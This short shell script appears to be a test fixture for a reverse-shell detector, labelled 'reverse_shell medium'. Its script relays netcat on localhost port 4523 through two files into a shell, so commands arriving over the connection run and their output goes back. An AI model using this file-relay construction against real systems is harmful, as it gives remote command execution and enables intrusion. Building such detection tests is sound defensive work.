# about: nc writes what it hears into a file, a shell follows the file, and its output file is followed back to nc
# expect: reverse_shell medium
# needs: python3 nc
proven 4523
: >typed; : >said
setsid timeout 6 sh -c 'tail -f typed | sh >>said 2>&1' &
setsid timeout 6 sh -c 'tail -f said | nc 127.0.0.1 4523 >>typed' || true
answered
